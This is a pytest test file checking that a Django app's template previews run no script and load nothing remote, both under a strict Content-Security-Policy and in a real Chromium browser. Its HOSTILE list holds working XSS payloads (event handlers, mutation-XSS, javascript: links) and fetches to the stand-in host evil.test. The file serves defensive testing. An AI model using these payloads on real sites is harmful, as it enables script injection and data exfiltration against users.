"""Previews run nothing: the policy that goes with them, and a real browser that tries."""

import shutil

import pytest
from django.urls import reverse
from playwright.sync_api import sync_playwright

from templates_app.views.preview import document, samples
from tests import factories

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
HOST = "http://console.test"
FLAGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
RUN = "top.postMessage('ran','*');fetch('http://evil.test/x')"
HOSTILE = [
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    f'<body onload="{RUN}">',
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "<iframe src='http://evil.test/frame'></iframe>",
    "<object data='http://evil.test/object'></object><embed src='http://evil.test/embed'>",
    "<img src='http://evil.test/a.png' srcset='http://evil.test/b.png 2x'>",
    "<link rel=stylesheet href='http://evil.test/c.css'><style>@import 'http://evil.test/d.css';</style>",
    "<style>body{background:url(http://evil.test/e.png)}@font-face{font-family:x;src:url(http://evil.test/f)}*{font-family:x}</style>x",
    "<meta http-equiv=refresh content='0;url=http://evil.test/refresh'>",
    "<meta http-equiv=refresh content='0;url=/console'>",
    "<form action='http://evil.test/form' id=f><input autofocus onfocus='f.submit()'></form>",
    "<video src='http://evil.test/v' autoplay></video><audio src='http://evil.test/w' autoplay></audio>",
    "<link rel=prefetch href='http://evil.test/p'><link rel=preload as=image href='http://evil.test/q'>",
    "<base href='http://evil.test/'><img src=relative.png>",
    f'<details open ontoggle="{RUN}">x</details>',
    f"<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationstart=\"{RUN}\">x</p>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    "<a href='javascript:top.postMessage(1)' id=a>x</a>",
    "<table background='http://evil.test/t'><tr><td>x",
    "<script type=module src='http://evil.test/m'></script>",
]


def policy_of(response):
    parts = (part.strip().partition(" ") for part in response["Content-Security-Policy"].split(";"))
    return {name: value for name, _, value in parts}


def test_the_policy_lets_a_preview_do_nothing():
    response = document("<p>{{a}}</p>", {"value.a": "<b>"})
    assert policy_of(response) == {
        "default-src": "'none'",
        "img-src": "data:",
        "style-src": "'unsafe-inline'",
        "form-action": "'none'",
        "base-uri": "'none'",
        "frame-ancestors": "'self'",
        "sandbox": "",
    }
    assert response["Content-Type"] == "text/html; charset=utf-8"
    # What is looked at is told to nobody, and kept by no proxy.
    assert response["Referrer-Policy"] == "no-referrer"
    assert response["Cache-Control"] == "private, no-store"
    assert response.content == b"<p>&lt;b&gt;</p>"


def test_variables_without_a_value_show_their_name():
    assert samples(frozenset({"a", "b"}), {"value.a": "Ada", "b": "x"}) == {"a": "Ada", "b": "[b]"}


@pytest.mark.django_db
def test_a_text_in_the_editor_is_shown_as_text_under_the_same_policy(client):
    client.force_login(factories.user(factories.account(), "operator"))
    hostile = "<script>alert(1)</script>"
    response = client.post(reverse("templates:preview_unsaved"), {"text": hostile})
    assert response.content.decode() == hostile
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert policy_of(response) == policy_of(document("x", {}))


def test_a_sample_value_is_cut_to_a_thousand_characters():
    assert samples(frozenset({"a"}), {"value.a": "x" * 5_000}) == {"a": "x" * 1_000}


@pytest.mark.browser
def test_a_browser_runs_and_fetches_nothing_from_hostile_templates():
    assert CHROMIUM, "install Chromium to run this test"
    asked: list[str] = []

    def serve(route):
        url = route.request.url
        asked.append(url)
        number = url.removeprefix(f"{HOST}/preview/")
        if number.isdecimal():
            answer = document(HOSTILE[int(number)], {})
            route.fulfill(status=200, headers=dict(answer.items()), body=answer.content)
        elif url == f"{HOST}/":
            frames = "".join(
                f"<iframe sandbox src='/preview/{number}' width=300 height=200></iframe>"
                for number in range(len(HOSTILE))
            )
            script = "<script>window.ran = []; addEventListener('message', (event) => ran.push(event.data))</script>"
            route.fulfill(status=200, content_type="text/html", body=f"<!doctype html>{script}{frames}")
        else:
            route.abort()

    with sync_playwright() as running:
        browser = running.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        page = browser.new_page()
        page.route("**/*", serve)
        page.goto(f"{HOST}/")
        page.wait_for_load_state("networkidle")
        for number in range(len(HOSTILE)):
            frame = page.frame(url=f"{HOST}/preview/{number}")
            assert frame, HOSTILE[number]
        page.frame(url=f"{HOST}/preview/{HOSTILE.index(next(h for h in HOSTILE if 'id=a' in h))}").click("#a")
        # A preview opened by itself is held by its policy alone.
        alone = browser.new_page()
        alone.route("**/*", serve)
        for number in range(len(HOSTILE)):
            alone.goto(f"{HOST}/preview/{number}", wait_until="load")
        assert page.evaluate("window.ran") == []
        browser.close()
    assert [url for url in asked if not url.startswith(HOST)] == []
    assert f"{HOST}/console" not in asked
